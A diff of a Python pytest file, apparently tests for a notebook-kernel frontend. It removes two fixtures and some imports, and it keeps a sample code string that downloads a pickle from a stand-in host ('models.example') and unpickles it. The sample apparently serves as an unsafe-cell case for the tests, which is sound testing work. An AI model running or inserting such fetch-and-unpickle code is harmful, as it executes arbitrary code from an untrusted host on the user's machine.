@@ -2,25 +2,9 @@
 
 from __future__ import annotations
 
-from collections.abc import Iterator
-from pathlib import Path
-
 import pytest
 
-from tests.frontends.kernels import Kernel, running_kernel
-
 REMOTE = "pickle.loads(requests.get('https://models.example/m.pkl').content)"
-
-
-@pytest.fixture(scope="module")
-def process(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Kernel]:
-    with running_kernel(tmp_path_factory.mktemp("kernel")) as kernel:
-        yield kernel
-
-
-@pytest.fixture
-def kernel(process: Kernel, tmp_path: Path) -> Kernel:
-    return process.fresh(tmp_path)
 
 
 def test_safe_cell_runs_and_shows_its_value(kernel):
